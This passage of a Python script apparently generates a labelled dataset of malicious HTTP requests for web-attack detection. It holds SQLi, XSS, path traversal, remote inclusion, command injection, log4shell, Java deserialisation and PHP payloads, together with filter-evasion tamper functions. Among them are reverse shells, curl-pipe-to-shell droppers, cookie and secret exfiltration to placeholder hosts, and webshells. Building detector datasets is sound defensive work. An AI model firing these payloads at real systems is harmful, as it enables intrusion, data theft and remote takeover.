    "paths": ["/products", "/search", "/api/users", "/news.php", "/item.asp", "/catalog/list", "/login", "/report?year=2024", "/index.php?route=product"],
    "params": ["id", "q", "category", "sort", "user", "username", "pid", "order", "filter", "article", "email"],
    "json_keys": ["id", "username", "search", "sort", "email", "productId"],
    "cookie_names": ["uid", "cart_id", "lang", "pref_sort", "user"],
    "api_paths": ["/api/v1/search", "/api/login", "/api/orders/filter", "/api/v2/users/lookup"],
}

SQLI_TAMPERS = ["none", "randomcase", "space2comment", "space2tab", "space2newline", "space2hash",
                "space2dash", "space2mssqlblank", "versioned", "between", "equaltolike", "symboliclogical",
                "apostrophemask", "apostrophenull", "unmagicquotes", "concat", "nullprefix", "parens"]
SQLI_ENC = ["raw", "plus", "url", "url-lower", "double", "unicode", "mixed", "charencode", "charunicode", "percentage", "overlong"]


def gen_sqli():
    pl = ["query", "query-mid", "form", "json", "cookie", "user-agent", "referer", "x-forwarded-for", "multipart", "path", "query-name"]
    return variants(SQLI_PAYLOADS, SQLI_SPEC, SQLI_TAMPERS, pl, SQLI_ENC, 5, "sqli")


# --------------------------------------------------------------------------------------------
# XSS
# --------------------------------------------------------------------------------------------

XSS_PAYLOADS = [
    ("<script>alert(document.domain)</script>", "script tag"),
    ("<ScRiPt src=//evil.example/x.js></sCrIpT>", "external script, mixed case"),
    ("\"><script>fetch('//x.example/?c='+document.cookie)</script>", "attribute breakout, cookie theft"),
    ("<img src=x onerror=alert(1)>", "img onerror"),
    ("<img/src/onerror=prompt(8)>", "img with slashes"),
    ("<svg onload=confirm(1)>", "svg onload"),
    ("<svg/onload=alert`1`>", "svg onload backtick call"),
    ("<body onload=alert(2)>", "body onload"),
    ("<iframe src=\"javascript:alert(3)\">", "iframe javascript uri"),
    ("<a href=\"javascript:void(alert(4))\">click</a>", "anchor javascript uri"),
    ("<a href=\"jav&#x61;script:alert(5)\">x</a>", "entity inside scheme"),
    ("<details open ontoggle=alert(6)>", "details ontoggle"),
    ("<input autofocus onfocus=alert(7)>", "autofocus onfocus"),
    ("<video><source onerror=\"alert(8)\">", "video source onerror"),
    ("<marquee onstart=alert(9)>", "marquee onstart"),
    ("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==\">", "object data uri"),
    ("<embed src=javascript:alert(11)>", "embed javascript"),
    ("<form action=javascript:alert(12)><button>go</button></form>", "form action javascript"),
    ("<div style=\"background:url(javascript:alert(13))\">", "css url javascript"),
    ("<div style=\"width:expression(alert(14))\">", "css expression"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(15)\">", "meta refresh"),
    ("<base href=\"//evil.example/\">", "base tag hijack"),
    ("<svg><animate onbegin=alert(16) attributeName=x dur=1s>", "svg animate onbegin"),
    ("<textarea autofocus onfocus=alert(18)>", "textarea autofocus"),
    ("javascript:alert(document.cookie)", "javascript uri value"),
    ("'-alert(19)-'", "js string breakout"),
    ("\";alert(20);//", "js string breakout double quote"),
    ("</script><script>alert(21)</script>", "script context breakout"),
    ("<scr<script>ipt>alert(22)</scr</script>ipt>", "nested tag filter bypass"),
    ("<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(23)\">", "entity-encoded handler"),
    ("<svg><script>alert&#40;24&#41;</script>", "svg script entities"),
    ("<x onpointerover=alert(25)>hover me", "custom tag pointer event"),
    ("<img src=x onerror=eval(atob('YWxlcnQoMjYp'))>", "eval atob"),
    ("<img src=x:x onerror=window['al'+'ert'](27)>", "concatenated function name"),
    ("<iframe srcdoc=\"&lt;script&gt;alert(28)&lt;/script&gt;\">", "iframe srcdoc"),
    ("<style>@import 'javascript:alert(30)';</style>", "css import"),
    ("<svg><a xlink:href=\"javascript:alert(31)\"><text x=\"20\" y=\"20\">x</text></a></svg>", "svg xlink href"),
    ("data:text/html,<script>alert(32)</script>", "data uri html"),
    ("vbscript:msgbox(33)", "vbscript uri"),
    ("<img src=1 onerror=document.location='//evil.example/'+document.cookie>", "redirect with cookie"),
    ("<body/onpageshow=alert(34)>", "body onpageshow"),
    ("<audio src onloadstart=alert(35)>", "audio onloadstart"),
    ("<script>new Image().src=\"//x.example/?\"+document.cookie</script>", "image beacon"),
    ("<svg onload=setTimeout('alert(36)')>", "settimeout string"),
    ("\" onmouseover=\"alert(37)", "attribute injection"),
    ("' autofocus onfocus='alert(38)", "attribute injection single quote"),
    ("<img src=x onerror=import('//evil.example/m.js')>", "dynamic import"),
    ("<math><maction actiontype=statusline xlink:href=javascript:alert(39)>x</maction></math>", "mathml"),
    ("<table background=\"javascript:alert(40)\">", "table background"),
    ("<link rel=stylesheet href=\"javascript:alert(41)\">", "link href javascript"),
    ("<svg><set attributeName=href to=javascript:alert(42) /><a><text>y</text></a></svg>", "svg set"),
    ("<img src=x onerror=this.src='//evil.example/?'+localStorage.token>", "localStorage exfil"),
    ("<script>document.write('<img src=//evil.example/'+document.cookie+'>')</script>", "document.write"),
    ("<sCrIpT>eval(String.fromCharCode(97,108,101,114,116,40,52,51,41))</sCrIpT>", "fromCharCode"),
    ("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(44)\">z</a>", "fully entity-encoded scheme"),
    ("<iframe src=\"java\tscript:alert(45)\"></iframe>", "tab inside scheme"),
    ("<img src=x onerror\n=alert(46)>", "newline before equals"),
]

XSS_SPEC = {
    "paths": ["/search", "/comments", "/profile", "/guestbook.php", "/error", "/welcome", "/page?lang=en", "/redirect"],
    "params": ["q", "name", "comment", "message", "title", "callback", "returnUrl", "msg", "error", "bio"],
    "json_keys": ["comment", "displayName", "bio", "title", "message"],
    "cookie_names": ["display_name", "last_search", "flash", "theme"],
    "api_paths": ["/api/comments", "/api/profile", "/api/v1/posts", "/api/tickets"],
}


def x_entities(s):
    """HTML-entity encode the inside of event handlers / js: values (decimal or hex)."""
    out = []
    for ch in s:
        if ch in "()'`:" and R.random() < 0.9:
            out.append("&#%d;" % ord(ch) if R.random() < 0.5 else "&#x%x;" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


TAMPERS.update({
    "x-case": lambda s: "".join(c.upper() if c.isalpha() and R.random() < 0.5 else c for c in s),
    "x-slash": lambda s: s.replace("<img ", "<img/").replace("<svg ", "<svg/").replace(" on", "/on", 1),
    "x-entities": x_entities,
    "x-nullbyte": lambda s: s.replace("<script", "<scr\x00ipt").replace("onerror", "on\x00error") if ("<script" in s or "onerror" in s) else "\x00" + s,
    "x-newline": lambda s: s.replace(" on", "\n on", 1).replace("<script>", "<script\n>"),
    "x-prefix": lambda s: "Nice article! " + s,
    "x-quote-close": lambda s: "'\">" + s,
})

XSS_TAMPERS = ["none", "x-case", "x-slash", "x-entities", "x-nullbyte", "x-newline", "x-prefix", "x-quote-close"]
XSS_ENC = ["raw", "plus", "url", "url-lower", "double", "unicode", "mixed", "overlong", "fullwidth"]


def gen_xss():
    pl = ["query", "query-mid", "form", "json", "cookie", "referer", "user-agent", "multipart", "filename", "path"]
    return variants(XSS_PAYLOADS, XSS_SPEC, XSS_TAMPERS, pl, XSS_ENC, 5, "xss")


# --------------------------------------------------------------------------------------------
# Path traversal / LFI
# --------------------------------------------------------------------------------------------

TRAV_TARGETS = [
    "etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline", "etc/group",
    "windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "var/log/apache2/access.log",
    "WEB-INF/web.xml", "inetpub/wwwroot/web.config", "root/.ssh/id_rsa", "home/deploy/.bash_history",
    "etc/nginx/nginx.conf", "usr/local/etc/php/php.ini", "var/www/html/config.php", "proc/1/maps",
    "etc/issue", "app/config/parameters.yml", "etc/mysql/my.cnf", "var/run/secrets/kubernetes.io/serviceaccount/token",
]

TRAV_SEPS = [
    ("../", "plain"), ("..\\", "backslash"), ("..%2f", "encoded slash"), ("%2e%2e%2f", "fully encoded"),
    ("%2e%2e/", "encoded dots"), ("..%5c", "encoded backslash"), ("%252e%252e%252f", "double encoded"),
    ("..%c0%af", "overlong slash"), ("%c0%ae%c0%ae/", "overlong dots"), ("..%u2215", "unicode division slash"),
    ("%uff0e%uff0e/", "fullwidth dots"), ("....//", "stripped-once bypass"), ("..;/", "tomcat semicolon"),
    ("..///", "repeated slash"), (".%2e/", "half encoded"), ("%2e./", "half encoded"), ("..%255c", "double encoded backslash"),
    ("%2e%2e%5c", "encoded dots backslash"), ("..%e0%80%af", "3-byte overlong slash"), ("...\\.\\", "windows dot-dot-dot"),
    ("%%32%65%%32%65/", "nested percent"), ("..%00/", "null in separator"), ("..\\/", "mixed separators"),
]

TRAV_SPEC = {
    "params": ["file", "page", "template", "path", "doc", "img", "lang", "include", "download", "view", "style", "layout"],
    "paths": ["/download", "/view.php", "/index.php", "/static", "/api/files", "/render", "/image", "/help"],
}


def raw_traversal(depth, tgt, suffix):
    """The decoded form, for places that are not percent-decoded (JSON strings, filenames)."""
    sep = R.choice(["../", "..\\", "....//", "..\\/", "../", "./../"])
    t = tgt.replace("/", "\\") if sep == "..\\" else tgt
    return sep * depth + t + ("\x00.jpg" if suffix.startswith("%00") else ""), sep


def gen_traversal():
    out = []
    i = 0
    for tgt in TRAV_TARGETS:
        picks = R.sample(TRAV_SEPS, 8)
        for sep, sepnote in picks:
            i += 1
            depth = R.randint(2, 9)
            windows = tgt.split("/")[0] in ("windows", "boot.ini", "inetpub")
            t = tgt.replace("/", "\\") if "\\" in sep and windows else tgt
            if "%" in sep and "/" in sep and R.random() < 0.5:
                t = t.replace("/", sep.split("..")[-1] if sep.startswith("..") else "/")
            payload = sep * depth + t
            suffix = R.choice(["", "", "", "%00", "%00.jpg", "%00.html", "?", "/.", "%23"])
            payload += suffix
            mode = R.choice(["query", "query", "query", "path", "form", "json", "cookie", "multipart-filename", "query-leading"])
            host = R.choice(HOSTS)
            headers = [["Host", host], ["User-Agent", R.choice(ATTACK_UAS)], ["Accept", "*/*"]]
            param = R.choice(TRAV_SPEC["params"])
            note = f"traversal to {tgt}; separator={sepnote} x{depth}; suffix={suffix or 'none'}"
            # The separators above are already in their on-the-wire form: insert verbatim.
            if mode == "query":
                d = finish("GET", f"{R.choice(TRAV_SPEC['paths'])}?{param}={payload}", headers)
            elif mode == "query-leading":
                d = finish("GET", f"{R.choice(TRAV_SPEC['paths'])}?{param}={R.choice(['/var/www/images/', 'assets/', 'en/', 'C:/inetpub/'])}{payload}", headers)
                note += "; behind a legitimate-looking prefix"
            elif mode == "path":
                if "\\" in payload:
                    payload = payload.replace("\\", "%5c")
                d = finish("GET", f"{R.choice(['/static/', '/files/', '/assets/img/', '/cgi-bin/', '/'])}{payload}", headers)
            elif mode == "form":
                d = finish("POST", R.choice(["/export", "/admin/template/preview", "/report"]), headers,
                           f"format=pdf&{param}={payload}&go=1", "application/x-www-form-urlencoded")
            elif mode == "json":
                raw, rsep = raw_traversal(depth, tgt, suffix)
                note = f"traversal to {tgt}; separator={rsep!r} (decoded, JSON string) x{depth}"
                d = finish("POST", R.choice(["/api/files/read", "/api/v1/templates/render", "/api/backup/restore"]), headers,
                           json.dumps(nest_json(R.choice(["path", "file", "template"]), raw, R.randint(0, 2))), "application/json")
            elif mode == "cookie":
                headers.append(["Cookie", f"{R.choice(['lang', 'template', 'theme'])}={payload}; sid={rand_token(24)}"])
                d = finish("GET", R.choice(["/", "/index.php", "/home"]), headers)
            else:
                raw, rsep = raw_traversal(depth, tgt, suffix)
                note = f"traversal to {tgt}; separator={rsep!r} (decoded, filename) x{depth}"
                body, ct = multipart([("folder", "uploads", None, None), ("file", "GIF89a;\n", raw, "image/gif")])
                d = finish("POST", R.choice(["/upload", "/api/avatar"]), headers, body, ct)
            d["label"] = "traversal"
            d["note"] = note + "; in " + {"multipart-filename": "multipart filename", "query-leading": "query"}.get(mode, mode)
            out.append(d)
    # absolute paths and wrappers of local files
    absolutes = [
        "/etc/passwd", "/etc/shadow%00", "C:\\Windows\\win.ini", "C:/boot.ini", "file:///etc/passwd",
        "file://localhost/c:/windows/win.ini", "/proc/self/environ", "\\\\localhost\\c$\\windows\\win.ini",
        "/var/log/nginx/access.log", "%2fetc%2fpasswd", "/etc/passwd%00.png", "/root/.aws/credentials",
        "file:///proc/self/cwd/app.py", "/etc/./passwd", "/etc//shadow", "c:\\inetpub\\wwwroot\\web.config",
    ]
    for a in absolutes:
        for param in R.sample(TRAV_SPEC["params"], 2):
            headers = [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)], ["Accept", "*/*"]]
            v = a.replace("\\", "%5C") if R.random() < 0.5 else a.replace("\\", "\\")
            d = finish("GET", f"{R.choice(TRAV_SPEC['paths'])}?{param}={v.replace(' ', '%20')}", headers)
            d["label"] = "traversal"
            d["note"] = f"absolute local file path {a} in query {param}"
            out.append(d)
    return out


# --------------------------------------------------------------------------------------------
# Remote file inclusion
# --------------------------------------------------------------------------------------------

def gen_rfi():
    urls = [
        "http://203.0.113.66/shell.txt?", "https://198.51.100.9/x.txt%00", "ftp://198.51.100.9/inc.php",
        "http://evil.example/c99.txt?", "http://evil.example/r57.txt??", "https://pastebin.example/raw/aZ91kQ?",
        "http://3232235777/a.txt", "http://0xC0A80001/b.php?", "http://evil.example:8000/payload.inc%00",
        "\\\\198.51.100.4\\share\\x.php", "http://evil.example/shell.php#", "https://evil.example/s.txt%3F",
        "hTtP://203.0.113.14/inc.txt?", "http://[2001:db8::66]/x.txt?", "//203.0.113.66/shell.txt?",
        "http://192.0.2.44/zz.jpg?", "ftp://anonymous:x@203.0.113.12/pub/x.txt", "http://evil.example/id.txt???",
        "https://raw.evil.example/a/b/c/backdoor.txt?", "http://203.0.113.66:80/test.txt%23",
    ]
    params = ["page", "include", "file", "template", "module", "inc", "path", "mosConfig_absolute_path",
              "lang", "theme", "pg", "content", "config[root_dir]", "GLOBALS[base_path]"]
    endpoints = ["/index.php", "/main.php", "/include.php", "/components/com_x/x.php", "/modules/mod.php", "/view.php", "/admin/inc/header.php"]
    out = []
    for u in urls:
        for k in range(4):
            p = R.choice(params)
            enc = ["raw", "url", "raw", "mixed"][k]
            v = u if enc == "raw" else (enc_url(u) if enc == "url" else enc_mixed(u))
            v = v.replace("\\", "%5C") if enc == "raw" else v
            headers = [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)], ["Accept", "*/*"]]
            if k == 3 and R.random() < 0.5:
                d = finish("POST", R.choice(endpoints), headers, f"{p}={enc_min(u, 'form')}&submit=1", "application/x-www-form-urlencoded")
                where = f"form {p}"
            else:
                d = finish("GET", f"{R.choice(endpoints)}?{p}={v}", headers)
                where = f"query {p}"
            d["label"] = "rfi"
            d["note"] = f"remote include of {u}; in {where}; encoding={enc}"
            out.append(d)
    return out


# --------------------------------------------------------------------------------------------
# OS command injection
# --------------------------------------------------------------------------------------------

CMDI_COMMANDS = [
    ("id", "id"), ("whoami", "whoami"), ("uname -a", "uname"), ("cat /etc/passwd", "cat passwd"),
    ("ls -la /", "ls root"), ("wget http://203.0.113.5/x -O /tmp/x", "wget dropper"),
    ("curl -s http://evil.example/s.sh|sh", "curl pipe to shell"), ("nc -e /bin/sh 203.0.113.5 4444", "netcat reverse shell"),
    ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "bash dev/tcp reverse shell"), ("sleep 9", "sleep timing"),
    ("ping -c 3 127.0.0.1", "ping timing"), ("nslookup x7q.evil.example", "dns oob"),
    ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==", "powershell encoded"), ("cmd.exe /c dir C:\\", "cmd.exe"),
    ("type C:\\Windows\\win.ini", "type win.ini"), ("net user", "net user"),
    ("python3 -c 'import os;os.system(\"id\")'", "python one-liner"), ("perl -e 'exec \"/bin/sh\"'", "perl exec"),
    ("echo aWQ=|base64 -d|sh", "base64 to shell"), ("rm -rf /tmp/cache", "rm"), ("chmod +x /tmp/x;/tmp/x", "chmod and run"),
    ("/bin/busybox telnetd -p 2323 -l /bin/sh", "busybox telnetd"), ("cat</etc/passwd", "redirect input"),
    ("mkfifo /tmp/f;nc 203.0.113.5 9001 </tmp/f|/bin/sh >/tmp/f", "mkfifo shell"),
    ("php -r 'system(\"id\");'", "php cli"), ("certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe", "certutil download"),
    ("env", "env dump"), ("ifconfig", "ifconfig"), ("echo vulnerable > /tmp/proof", "write proof file"),
    ("tftp -i 203.0.113.5 GET x.exe", "tftp"), ("getent passwd", "getent"), ("find / -perm -4000", "find suid"),
]

CMDI_WRAPS = [
    ("; {c}", "semicolon"), ("| {c}", "pipe"), ("|| {c}", "or-list"), ("&& {c}", "and-list"), ("& {c} &", "background"),
    ("\n{c}", "newline"), ("`{c}`", "backticks"), ("$({c})", "command substitution"), ("127.0.0.1; {c}", "after ip"),
    ("example.com | {c}", "after hostname"), ("x' ; {c} ; '", "quote breakout"), ("\"; {c}; \"", "double quote breakout"),
    ("1;{c};#", "trailing comment"), ("a\r\n{c}", "crlf"), ("report.pdf\n{c}", "newline after a filename"),
]


def c_ifs(c):
    return c.replace(" ", R.choice(["${IFS}", "$IFS$9", "${IFS%??}"]))


def c_quotes(c):
    out = []
    for w in c.split(" "):
        if len(w) > 2 and w.isalpha():
            k = R.randint(1, len(w) - 1)
            w = w[:k] + R.choice(["''", '""', "\\"]) + w[k:]
        out.append(w)
    return " ".join(out)


def c_glob(c):
    return (c.replace("/etc/passwd", "/e??/p?ss*").replace("/bin/sh", "/b??/s?").replace("cat ", "/???/c?t ")
            .replace("whoami", "/usr/bin/wh?ami").replace("/tmp/", "/t*p/"))


def c_brace(c):
    parts = c.split(" ")
    if len(parts) > 1 and all("|" not in p and ">" not in p and "<" not in p and ";" not in p for p in parts):
        return "{" + ",".join(parts) + "}"
    return c


def c_caret(c):
    return "".join(ch + "^" if ch.isalpha() and R.random() < 0.3 else ch for ch in c)


def c_vars(c):
    w = c.split(" ")[0]
    if len(w) < 3:
        return c
    k = len(w) // 2
    return f"a={w[:k]};b={w[k:]};$a$b" + c[len(w):]


TAMPERS.update({
    "c-ifs": c_ifs, "c-quotes": c_quotes, "c-glob": c_glob, "c-brace": c_brace, "c-caret": c_caret,
    "c-tab": lambda c: c.replace(" ", "\t"), "c-vars": c_vars,
    "c-printf": lambda c: "$(printf '" + "".join("\\x%02x" % ord(x) for x in c.split(" ")[0]) + "')" + c[len(c.split(" ")[0]):],
})

CMDI_SPEC = {
    "paths": ["/ping", "/api/diagnostics/traceroute", "/cgi-bin/status.cgi", "/admin/tools/nslookup", "/convert", "/backup.php", "/device/set"],
    "params": ["ip", "host", "target", "cmd", "domain", "filename", "addr", "exec", "to", "name", "dir"],
    "json_keys": ["host", "ip", "filename", "command", "target"],
    "cookie_names": ["host", "last_ip", "tz"],
    "api_paths": ["/api/v1/diagnostics/ping", "/api/convert", "/api/devices/7/config", "/api/backup"],
}
CMDI_TAMPERS = ["none", "c-ifs", "c-quotes", "c-glob", "c-brace", "c-tab", "c-vars", "c-printf"]
CMDI_ENC = ["raw", "plus", "url", "url-lower", "double", "mixed", "unicode"]


def gen_cmdi():
    payloads = []
    for i, (c, note) in enumerate(CMDI_COMMANDS):
        for k, (wrap, wnote) in enumerate(R.sample(CMDI_WRAPS, 2)):
            t = "none" if k == 0 else CMDI_TAMPERS[1 + (i % (len(CMDI_TAMPERS) - 1))]
            tc = TAMPERS[t](c)
            if tc == c:
                t = "none"
            payloads.append((wrap.replace("{c}", tc), f"{note} via {wnote}", t))
    pl = ["query", "query-mid", "form", "json", "cookie", "multipart", "filename", "user-agent", "path"]
    out = variants(payloads, CMDI_SPEC, ["none"], pl, CMDI_ENC, 4, "cmdi")
    # Windows variants get caret insertion, Shellshock goes in headers.
    for p in ["& whoami", "| type C:\\Windows\\win.ini", "& net user &", "|| powershell -c \"iwr http://203.0.113.5/a.ps1|iex\""]:
        for pl_ in ["query", "form"]:
            d, where = place(c_caret(p), pl_, "url", CMDI_SPEC)
            d["label"] = "cmdi"
            d["note"] = f"windows command with caret insertion; in {where}"
            out.append(d)
    shellshock = [
        "() { :; }; /bin/bash -c 'id'", "() { :;}; echo; /usr/bin/id", "() { ignored; }; /bin/cat /etc/passwd",
        "() { :; }; /bin/sleep 7", "() { _; } >_[$($())] { echo; /bin/uname -a; }",
        "() { :; }; wget -qO- http://203.0.113.5/s | sh",
    ]
    for s in shellshock:
        for hname in ["User-Agent", "Referer", "Cookie"]:
            headers = [["Host", R.choice(HOSTS)], ["Accept", "*/*"]]
            headers.insert(1, ["User-Agent", s if hname == "User-Agent" else R.choice(ATTACK_UAS)])
            if hname == "Referer":
                headers.append(["Referer", s])
            if hname == "Cookie":
                headers.append(["Cookie", f"x={s}"])
            d = finish("GET", R.choice(["/cgi-bin/test.cgi", "/cgi-bin/status", "/cgi-bin/admin.cgi", "/"]), headers)
            d["label"] = "cmdi"
            d["note"] = f"shellshock function definition in {hname}"
            out.append(d)
    return out


# --------------------------------------------------------------------------------------------
# JNDI (log4shell) and Java deserialisation
# --------------------------------------------------------------------------------------------

def gen_jndi():
    hosts = ["203.0.113.9:1389", "x7.evil.example", "198.51.100.2:1099", "c2.evil.example:443", "127.0.0.1#evil.example:1389"]
    protos = ["ldap", "rmi", "dns", "ldaps", "iiop", "corba", "nis", "nds", "http"]
    forms = [
        ("${{jndi:{p}://{h}/a}}", "plain"),
        ("${{${{lower:j}}ndi:{p}://{h}/b}}", "lower lookup"),
        ("${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{p}://{h}/c}}", "default-value lookups"),
        ("${{${{env:NOTHING:-j}}ndi:{p}://{h}/d}}", "env default"),
        ("${{j${{k8s:k5:-ND}}i:{p}://{h}/e}}", "k8s default"),
        ("${{${{upper:j}}${{upper:n}}di:{p}://{h}/f}}", "upper lookups"),
        ("${{jndi:${{lower:{p0}}}{prest}://{h}/g}}", "lower inside protocol"),
        ("${{${{date:'j'}}${{date:'n'}}${{date:'d'}}${{date:'i'}}:{p}://{h}/h}}", "date lookups"),
        ("${{jnd${{sys:SOME:-i}}:{p}://{h}/i}}", "sys default"),
        ("${{jndi:{p}://${{env:AWS_SECRET_ACCESS_KEY}}.{h}/j}}", "env exfiltration"),
        ("${{jndi:{p}://${{hostName}}.{h}/k}}", "hostname exfiltration"),
        ("${{${{::-$}}{{jndi:{p}://{h}/l}}}}", "escaped dollar"),
        ("${{j${{main:\\k5:-Nd}}i${{spring:k5:-:}}{p}://{h}/m}}", "main/spring lookups"),
        ("${{jNdI:{p}://{h}/n}}", "mixed case"),
        ("${{${{lower:${{lower:jndi}}}}:{p}://{h}/o}}", "nested lower"),
    ]
    spec = {
        "paths": ["/", "/login", "/api/v2/search", "/solr/admin/cores", "/websso/SAML2/SSO", "/api/status"],
        "params": ["q", "username", "search", "x", "action", "page"],
        "json_keys": ["username", "query", "name", "device"],
        "cookie_names": ["JSESSIONID", "remember", "lang"],
        "api_paths": ["/api/login", "/api/v1/events", "/api/search"],
    }
    out = []
    n = 0
    for f, fnote in forms:
        for k in range(5):
            p = protos[(n + k) % len(protos)]
            h = hosts[(n + 2 * k) % len(hosts)]
            n += 1
            payload = f.format(p=p, h=h, p0=p[0], prest=p[1:])
            placement = ["user-agent", "referer", "x-forwarded-for", "query", "json", "form", "cookie", "path", "multipart"][(n * 7 + k) % 9]
            enc = "url" if placement in ("query", "form", "path") and R.random() < 0.5 else "raw"
            d, where = place(payload, placement, enc, spec)
            d["label"] = "jndi"
            d["note"] = f"jndi {fnote} ({p}); in {where}; encoding={enc}"
            out.append(d)
    return out


def java_stream(classname, fields=b""):
    name = classname.encode()
    data = b"\xac\xed\x00\x05sr" + len(name).to_bytes(2, "big") + name + bytes(R.randrange(256) for _ in range(8)) + b"\x02\x00\x01L\x00\x03fnt\x00" + fields
    return data


JAVA_CLASSES = [
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections4.functors.ChainedTransformer",
    "java.util.PriorityQueue", "javax.management.BadAttributeValueExpException",
    "sun.reflect.annotation.AnnotationInvocationHandler", "org.springframework.beans.factory.ObjectFactory",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "java.util.HashMap",
    "org.hibernate.engine.spi.TypedValue", "clojure.core$comp",
]


def gen_java_deser():
    out = []
    spec_paths = ["/invoker/JMXInvokerServlet", "/jenkins/cli", "/api/session", "/remoting", "/j_security_check", "/service/rmi", "/"]
    for i, cls in enumerate(JAVA_CLASSES):
        stream = java_stream(cls, b"java.lang.Runtime\x00exec\x00/bin/sh -c id")
        b64 = base64.b64encode(stream).decode()
        variants_ = [
            ("raw body", lambda: finish("POST", R.choice(spec_paths), [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)]], stream, "application/x-java-serialized-object")),
            ("raw body octet-stream", lambda: finish("POST", R.choice(spec_paths), [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)]], stream, "application/octet-stream")),
            ("base64 in cookie", lambda: finish("GET", "/", [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)], ["Cookie", f"rememberMe={b64}"]])),
            ("base64 in form field", lambda: finish("POST", "/login.faces", [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)]], f"javax.faces.ViewState={enc_url(b64)}&j_id1=1", "application/x-www-form-urlencoded")),
            ("base64 in json", lambda: finish("POST", "/api/session/restore", [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)]], json.dumps({"state": b64, "v": 2}), "application/json")),
            ("base64 in query", lambda: finish("GET", f"/export?data={enc_url(b64)}", [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)]])),
        ]
        for vnote, make in R.sample(variants_, 4):
            d = make()
            d["label"] = "java_deser"
            d["note"] = f"java serialized object {cls}; {vnote}"
            out.append(d)
    gadgets_json = [
        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.9:1389/Exploit", "autoCommit": True},
        ["ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "rmi://198.51.100.2:1099/x"}],
        {"@class": "org.apache.xbean.propertyeditor.JndiConverter", "asText": "ldap://x7.evil.example/o"},
        {"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"}, "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://evil.example/x", "autoCommit": True}},
        ["org.springframework.context.support.ClassPathXmlApplicationContext", "http://203.0.113.9/spel.xml"],
    ]
    for g in gadgets_json:
        for _ in range(2):
            d = finish("POST", R.choice(["/api/v1/import", "/api/objects", "/json"]), [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)]], json.dumps(g), "application/json")
            d["label"] = "java_deser"
            d["note"] = "polymorphic JSON deserialisation gadget (fastjson/jackson style)"
            out.append(d)
    xml_gadgets = [
        "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
        "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>touch /tmp/p</string></void></object></java>",
        "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler/></value></jdk.nashorn.internal.objects.NativeString></entry></map>",
    ]
    for x in xml_gadgets:
        for ct in ["application/xml", "text/xml"]:
            d = finish("POST", R.choice(["/rest/orders", "/wls-wsat/CoordinatorPortType", "/struts2-rest/orders/3"]), [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)]], x, ct)
            d["label"] = "java_deser"
            d["note"] = "XStream / XMLDecoder gadget in XML body"
            out.append(d)
    return out


# --------------------------------------------------------------------------------------------
# PHP code injection / wrappers / object injection
# --------------------------------------------------------------------------------------------

PHP_PAYLOADS = [
    ("<?php system($_GET['c']); ?>", "php open tag with system"),
    ("<?php echo shell_exec($_REQUEST['x']);?>", "shell_exec"),
    ("<?= `id` ?>", "short echo tag with backticks"),
    ("<?php @eval($_POST['pass']);?>", "eval post webshell"),
    ("php://filter/convert.base64-encode/resource=index.php", "php filter wrapper"),
    ("php://filter/read=string.rot13/resource=config.php", "php filter rot13"),
    ("php://input", "php input wrapper"),
    ("data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "data wrapper with php"),
    ("expect://id", "expect wrapper"),
    ("phar://uploads/avatar.jpg/test.txt", "phar wrapper"),
    ("zip://uploads/x.zip%23shell.php", "zip wrapper"),
    ("${@phpinfo()}", "complex curly syntax"),
    ("assert($_GET[a])", "assert"),
    ("1;passthru('ls -la');", "passthru"),
    ("preg_replace('/.*/e','system(\"id\")','')", "preg_replace /e"),
    ("call_user_func('system','id')", "call_user_func"),
    ("file_put_contents('s.php','<?php eval($_POST[1]);')", "file_put_contents webshell"),
    ("base64_decode('c3lzdGVtKCdpZCcpOw==')", "base64_decode"),
    ("O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", "serialized php object"),
    ("a:1:{i:0;O:13:\"Monolog\\Logger\":1:{s:8:\"handlers\";a:0:{}}}", "serialized gadget in array"),
    ("O:+14:\"GuzzleHttp\\Psr7\":0:{}", "serialized object plus-sign bypass"),
    ("<?php $f=$_GET['f'];include($f);?>", "include webshell"),
    ("eval(gzinflate(base64_decode('80jNyclXCM8vykkBAA==')))", "eval gzinflate"),
    ("create_function('','system(\"id\");')", "create_function"),
    ("ini_set('allow_url_include',1)", "ini_set"),
